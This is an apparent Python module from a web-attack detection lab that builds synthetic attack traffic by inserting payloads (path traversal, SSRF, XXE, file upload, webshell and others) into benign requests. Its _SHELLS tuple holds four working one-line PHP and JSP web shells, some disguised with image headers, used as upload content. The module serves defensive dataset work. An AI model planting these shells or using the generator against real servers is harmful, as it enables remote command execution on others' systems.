"""Attack payloads placed into otherwise benign requests.

An attack sample starts as a benign request of the attacker's session (made by the same route
makers as benign traffic, so same cookies, referers, encodings and user agents) and has one field
replaced: a query parameter, a path segment, a form field, a JSON string, the XML body, a
multipart file name, content or field, a cookie, or the User-Agent / Referer header. The value
replaces the original, is appended to it, or keeps it where the payload says so (:data:`ORIG`),
as sqlmap and wapiti do. Encoding is the renderer's, per client: nothing about an attack's bytes
says which tool it came from except the payload itself.
"""

from __future__ import annotations

import json
import random
from typing import Any

from webtorch_guardlab.corpus.benign import Session, make
from webtorch_guardlab.corpus.payloads import ORIG, Payload
from webtorch_guardlab.corpus.request import HOST, Req

# position → weight, per family; families not named use DEFAULT
DEFAULT = (
    ("query", 50),
    ("form", 15),
    ("json", 8),
    ("cookie", 10),
    ("header", 10),
    ("path", 5),
    ("multipart", 2),
)
FAMILY_POSITIONS: dict[str, tuple[tuple[str, int], ...]] = {
    "path_traversal": (("query", 50), ("path", 30), ("cookie", 8), ("json", 7), ("form", 5)),
    "lfi_rfi": (("query", 60), ("path", 10), ("form", 10), ("json", 10), ("cookie", 10)),
    "open_redirect": (("query", 65), ("form", 10), ("json", 10), ("header", 10), ("cookie", 5)),
    "ssrf": (("query", 45), ("json", 35), ("form", 10), ("header", 10)),
    "xxe": (("xml", 70), ("form", 10), ("query", 10), ("multipart", 10)),
    "file_upload": (("multipart", 100),),
    "webshell": (("multipart", 60), ("form", 20), ("query", 10), ("json", 10)),
    "scan": (("path", 100),),
    "crlf": (("query", 50), ("header", 20), ("cookie", 20), ("form", 10)),
    "log_injection": (("form", 50), ("query", 20), ("json", 20), ("header", 10)),
    "deserialization": (("cookie", 40), ("json", 20), ("form", 20), ("query", 20)),
}

# Which routes each kind of client requests in benign traffic, per position: an attack's base
# request comes from the same set, so that no (agent, route, position) combination exists only
# in attacks. Crawlers send no attacks (their agents are the search engines').
ROUTES: dict[str, dict[str, tuple[str, ...]]] = {
    "browser": {
        "query": (
            "search",
            "category",
            "reviews",
            "login_page",
            "download",
            "go",
            "api_products",
            "latest",
            "gallery",
            "stories",
            "adclick",
        ),
        "form": ("login", "register", "profile", "comment", "cart_add", "checkout", "contact"),
        "json": ("api_order", "api_user"),
        "path": ("product", "reviews", "blog", "story", "api_product", "photo", "img"),
        "cookie": ("home", "search", "category", "product", "blog", "cart", "account", "news"),
        "header": ("home", "search", "category", "product", "blog", "cart", "news"),
        "multipart": ("api_upload",),
    },
    "app": {
        "query": ("api_products", "download"),
        "json": ("api_order", "api_user", "api_webhook"),
        "path": ("api_product", "api_user", "api_cart_delete"),
        "header": ("api_products", "api_product"),
        "multipart": ("api_upload",),
        "xml": ("api_import",),
    },
}

# Where a family's payload fits the application's meaning (a file name, a URL): used most of
# the time, as attackers aim at such parameters.
SEMANTIC: dict[tuple[str, str], tuple[tuple[str, str], ...]] = {
    ("path_traversal", "query"): (("download", "file"),),
    ("lfi_rfi", "query"): (("download", "file"),),
    ("path_traversal", "path"): (("img", ""), ("photo", "")),
    ("open_redirect", "query"): (("go", "url"), ("login_page", "next")),
    ("ssrf", "query"): (("go", "url"),),
    ("ssrf", "json"): (("api_webhook", "url"),),
    ("open_redirect", "json"): (("api_webhook", "url"),),
}


def choose_position(payload: Payload, rng: random.Random, kind: str = "browser") -> str:
    """A position for ``payload`` among those ``kind``'s benign requests have."""
    allowed = ROUTES[kind]
    if payload.family == "scan":
        return "path"
    if payload.family == "prototype_pollution":
        text = payload.text.lstrip()
        if text.startswith("{"):
            return "json"
        if text.startswith(("?", "&")) or "__proto__[" in text or "constructor[" in text:
            return "query"
    table = [(p, w) for p, w in FAMILY_POSITIONS.get(payload.family, DEFAULT) if p in allowed]
    if not table:
        table = [(p, w) for p, w in DEFAULT if p in allowed]
    return rng.choices([p for p, _ in table], weights=[w for _, w in table])[0]


def place(orig: str, text: str, rng: random.Random) -> str:
    """The new value: the payload, the original with the payload appended, or the payload with
    the original where it says (:data:`ORIG`)."""
    if ORIG in text:
        return text.replace(ORIG, orig)
    if orig and rng.random() < 0.25:
        return orig + text
    return text


RouteWeights = dict[str, dict[str, float]]  # kind → route → weight


def route_weights(routes_by_kind: dict[str, list[str]]) -> RouteWeights:
    """How often each kind of client requests each route in benign traffic."""
    out: RouteWeights = {}
    for kind, routes in routes_by_kind.items():
        w = out.setdefault(kind, {})
        for r in routes:
            w[r] = w.get(r, 0.0) + 1.0
    return out


def _pick_route(
    payload: Payload, position: str, rng: random.Random, kind: str, weights: RouteWeights | None
) -> str:
    pool = ROUTES[kind][position]
    sem = [r for r, _ in SEMANTIC.get((payload.family, position), ()) if r in pool]
    if sem and rng.random() < 0.7:
        return rng.choice(sem)
    if weights is None:
        return rng.choice(pool)
    # as often as benign users request them (plus one, so that no allowed route is never hit)
    w = weights.get(kind, {})
    return rng.choices(pool, weights=[w.get(r, 0.0) + 1.0 for r in pool])[0]


def _semantic_param(payload: Payload, position: str, route: str) -> str | None:
    for r, param in SEMANTIC.get((payload.family, position), ()):
        if r == route and param:
            return param
    return None


def _json_leaves(obj: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    if isinstance(obj, dict):
        return [leaf for k, v in obj.items() for leaf in _json_leaves(v, (*path, k))]
    if isinstance(obj, list):
        return [leaf for i, v in enumerate(obj) for leaf in _json_leaves(v, (*path, i))]
    return [path] if isinstance(obj, str) else []


def _json_set(obj: Any, path: tuple[Any, ...], value: str) -> None:
    for k in path[:-1]:
        obj = obj[k]
    obj[path[-1]] = value


def _json_get(obj: Any, path: tuple[Any, ...]) -> str:
    for k in path:
        obj = obj[k]
    return str(obj)


def attack_request(
    payload: Payload,
    s: Session,
    position: str | None = None,
    weights: RouteWeights | None = None,
) -> tuple[Req, str]:
    """A request of session ``s`` carrying ``payload``; returns it and the position used.
    ``weights`` (:func:`route_weights`) makes base routes as frequent as in benign traffic."""
    req, pos = _attack(payload, s, position, weights)
    if s.client.kind == "browser" and req.path.startswith("/api/"):
        req.accept = "json"  # as the page's script calls it (benign.xhr)
    return req, pos


def _attack(
    payload: Payload, s: Session, position: str | None, weights: RouteWeights | None
) -> tuple[Req, str]:
    rng = s.rng
    kind = s.client.kind
    if kind not in ROUTES:
        raise ValueError(f"{kind} clients send no attacks")
    pos = position or choose_position(payload, rng, kind)
    if pos not in ROUTES[kind] and not (pos == "path" and payload.family == "scan"):
        raise ValueError(f"{kind} clients have no {pos} position")
    text = payload.text

    if pos == "path" and payload.family == "scan":
        return Req("GET", text, "scan"), pos

    if pos == "query":
        route = _pick_route(payload, pos, rng, kind, weights)
        req = make(route, s)
        if payload.family == "prototype_pollution" and not text.lstrip().startswith("{"):
            req.raw_query = text.lstrip("?&")
            return req, pos
        if not req.query:
            req.query.append(("q", ""))
        want = _semantic_param(payload, pos, route)
        idx = next((i for i, (k, _) in enumerate(req.query) if k == want), None)
        if idx is None:
            idx = rng.randrange(len(req.query))
        k, v = req.query[idx]
        req.query[idx] = (k, place(v, text, rng))
        return req, pos

    if pos == "form":
        req = make(_pick_route(payload, pos, rng, kind, weights), s)
        fields = [i for i, (k, _) in enumerate(req.form) if k != "csrf_token"] or [0]
        i = rng.choice(fields)
        k, v = req.form[i]
        req.form[i] = (k, place(v, text, rng))
        return req, pos

    if pos == "json":
        route = _pick_route(payload, pos, rng, kind, weights)
        req = make(route, s)
        if payload.family == "prototype_pollution":
            try:
                extra = json.loads(text)
            except ValueError:
                extra = None
            if isinstance(extra, dict):
                req.json_body.update(extra)
                return req, pos
        leaves = _json_leaves(req.json_body)
        want = _semantic_param(payload, pos, route)
        leaf = next((p for p in leaves if p and p[-1] == want), None) or rng.choice(leaves)
        _json_set(req.json_body, leaf, place(_json_get(req.json_body, leaf), text, rng))
        return req, pos

    if pos == "xml":
        req = make(_pick_route(payload, pos, rng, kind, weights), s)
        if payload.family == "xxe":
            req.xml = text
        else:
            req.xml = req.xml.replace("<name>", "<name>" + text, 1)
        return req, pos

    if pos == "multipart":
        req = make(_pick_route(payload, pos, rng, kind, weights), s)
        file_part = req.parts[-1]
        if payload.family == "file_upload":
            file_part.filename = text
            if rng.random() < 0.6:
                file_part.value = _shell(rng)
                file_part.content_type = rng.choice(
                    ("image/jpeg", "application/octet-stream", "application/x-php")
                )
        elif payload.family == "webshell":
            file_part.value = text.encode()
            file_part.content_type = rng.choice(("image/png", "text/plain", "application/x-php"))
            file_part.filename = rng.choice(("avatar.png", "shell.php", "image.php.jpg", "x.jsp"))
        else:
            title = req.parts[1]
            title.value = place(title.value.decode(), text, rng).encode()
        return req, pos

    if pos == "cookie":
        req = make(_pick_route(payload, pos, rng, kind, weights), s)
        cookies = list(s.cookies) or [("sid", s.client.session)]
        i = rng.randrange(len(cookies))
        k, v = cookies[i]
        cookies[i] = (k, place(v, text, rng))
        req.cookies = cookies
        return req, pos

    if pos == "header":
        req = make(_pick_route(payload, pos, rng, kind, weights), s)
        if kind == "app" or rng.random() < 0.5:
            req.ua = place(s.client.ua, text, rng) if ORIG in text else _ua_payload(s, text, rng)
        else:
            req.referer = (
                text
                if payload.family in ("open_redirect", "ssrf")
                else f"https://{HOST}/search?q={text}"
            )
        return req, pos

    if pos == "path":
        route = _pick_route(payload, pos, rng, kind, weights)
        req = make(route, s)
        head, _, last = req.path.rstrip("/").rpartition("/")
        if route in ("reviews",):
            head, _, last = head.rpartition("/")
            tail = "/reviews"
        else:
            tail = ""
        value = place(last, text, rng)
        req.path = f"{head}/{value.lstrip('/') if route in ('img', 'photo') else value}{tail}"
        return req, pos

    raise ValueError(f"unknown position {pos!r}")


def _ua_payload(s: Session, text: str, rng: random.Random) -> str:
    return s.client.ua + " " + text if rng.random() < 0.5 else text


_SHELLS = (
    b"<?php system($_GET['c']); ?>",
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00<?php eval($_POST['x']); ?>",
    b'<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
    b"GIF89a<?php passthru($_REQUEST['cmd']); ?>",
)


def _shell(rng: random.Random) -> bytes:
    return rng.choice(_SHELLS)
